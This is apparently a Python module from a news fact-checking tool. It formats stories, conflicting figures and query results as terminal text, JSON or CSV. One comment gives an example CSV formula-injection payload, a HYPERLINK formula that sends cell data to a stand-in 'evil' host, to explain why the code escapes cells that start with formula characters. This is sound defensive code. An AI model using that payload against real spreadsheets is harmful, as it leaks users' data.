"""Plain-text listings of stories, facts and conflicts for the terminal (and later, mail)."""

from __future__ import annotations

import csv
import io
import json
import textwrap
from collections.abc import Callable, Sequence
from datetime import date, datetime
from typing import Any

from factwatch.ingest.alerts import alerts, fact_mark
from factwatch.ingest.reconcile.verdicts import format_day, format_figure
from factwatch.store import conflicts as conflict_rows
from factwatch.store import stories as story_rows
from factwatch.store.conflicts import ConflictRow, FactRow
from factwatch.store.db import Database
from factwatch.store.stories import StoryRow

WIDTH = 100


def _wrap(text: str, indent: str) -> str:
    return textwrap.fill(text, WIDTH, initial_indent=indent, subsequent_indent=indent)


def story_header(story: StoryRow) -> str:
    langs = story.langs.replace(",", ", ") or "?"
    span = format_day(story.first_seen.date())
    if story.last_seen.date() != story.first_seen.date():
        span += f" – {format_day(story.last_seen.date())}"
    n = story.n_articles
    return f"Story {story.id} · {story.label}\n  {n} article{'s' * (n != 1)} · {langs} · {span}"


def stories_text(db: Database) -> str:
    stories = story_rows.all_stories(db)
    if not stories:
        return "No stories yet: run `factwatch ingest SOURCE`."
    out = []
    for st in stories:
        out.append(story_header(st))
        for a in story_rows.story_articles(db, st.id):
            dup = f"  (copy of article {a.duplicate_of})" if a.duplicate_of else ""
            day = format_day(a.published_at.date()) if a.published_at else "undated"
            out.append(f"    - [{a.lang}] {a.title} — {a.outlet}, {day}{dup}")
        out.append("")
    return "\n".join(out).rstrip()


def conflict_text(conflict: ConflictRow) -> str:
    details = conflict.details or {}
    mark = fact_mark(conflict.verdict)
    lines = [f"  {mark} {conflict.verdict} · conflict {conflict.id} (fact {conflict.fact_id})"]
    readings = details.get("readings", [])
    if conflict.verdict == "updated":  # a running count: its figures in publication order
        def first_report(r: dict) -> str:
            return min((s.get("published") or "" for s in r.get("sources", [])), default="")

        steps = sorted(readings, key=first_report)
        lines.append(
            "    "
            + " → ".join(format_figure(r["value"], r["unit"], r["qualifier"]) for r in steps)
        )
        readings = []
    by_unit: dict[str, list[dict]] = {}
    for r in readings:
        by_unit.setdefault(r.get("unit") or "", []).append(r)
    for _unit, rs in sorted(by_unit.items()):
        if len(rs) < 2 and len(by_unit) > 1:
            continue
        figures = " vs ".join(
            format_day(date.fromisoformat(r["date_value"]))
            if r.get("date_value")
            else format_figure(r["value"], r["unit"], r["qualifier"])
            for r in rs
        )
        lines.append(f"    {figures}")
    lines.append(_wrap(conflict.summary, "    "))
    return "\n".join(lines)


def conflicts_text(db: Database, story_id: int | None = None, alerts_only: bool = False) -> str:
    conflicts = conflict_rows.conflicts(db, story_id=story_id)
    if alerts_only:
        conflicts = [c for c in conflicts if alerts(c.verdict)]
    if not conflicts:
        return "No conflicting figures found."
    return _by_story(db, conflicts, conflict_text)


def facts_text(db: Database, story_id: int | None = None, multi_only: bool = True) -> str:
    facts = conflict_rows.facts(db, story_id, multi_only)
    if not facts:
        return "No facts reported by two or more outlets yet."
    return _by_story(db, facts, _fact_line)


def _fact_line(f: FactRow) -> str:
    mark = fact_mark(f.status)
    return (
        f"  {mark} fact {f.id} [{f.status}] {f.label} ({f.n_claims} claims, {f.n_sources} sources)"
    )


def _by_story(db: Database, items: Sequence, line: Callable[[Any], str]) -> str:
    """Items (ordered by story) under a header for each story."""
    out: list[str] = []
    current = object()
    for item in items:
        if item.story_id != current:
            current = item.story_id
            story = story_rows.get_story(db, item.story_id) if item.story_id else None
            out.append("")
            out.append(story_header(story) if story else "Unclustered")
        out.append(line(item))
    return "\n".join(out).strip()


# ---------------------------------------------------------------- query results


def _cell(v: Any) -> Any:
    if isinstance(v, datetime | date):
        return v.isoformat()
    if isinstance(v, bytes):
        return f"<{len(v)} bytes>"
    return v


# A spreadsheet runs a cell that starts with one of these as a formula: a title such as
# '=HYPERLINK("http://evil/?"&A1, "read")' from a feed would run on the editor's machine.
# Such a cell is written with a leading apostrophe (OWASP's advice), which shows it as text.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _csv_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def table(columns: Sequence[str], rows: Sequence[Sequence[Any]], fmt: str = "table") -> str:
    rows = [[_cell(v) for v in r] for r in rows]
    if fmt == "json":
        return json.dumps(
            [dict(zip(columns, r, strict=True)) for r in rows],
            ensure_ascii=False,
            indent=2,
            default=str,
        )
    if fmt == "csv":
        buf = io.StringIO()
        w = csv.writer(buf)
        w.writerow(columns)
        w.writerows([_csv_cell(v) for v in r] for r in rows)
        return buf.getvalue().rstrip("\n")
    shown = [["" if v is None else str(v).replace("\n", " ") for v in r] for r in rows]
    widths = [len(c) for c in columns]
    for r in shown:
        for i, v in enumerate(r):
            widths[i] = min(max(widths[i], len(v)), 60)

    def line(vals):
        return "  ".join(
            (v if len(v) <= w else v[: w - 1] + "…").ljust(w)
            for v, w in zip(vals, widths, strict=True)
        ).rstrip()

    out = [line(columns), line(["-" * w for w in widths])]
    out.extend(line(r) for r in shown)
    out.append(f"({len(rows)} row{'s' * (len(rows) != 1)})")
    return "\n".join(out)
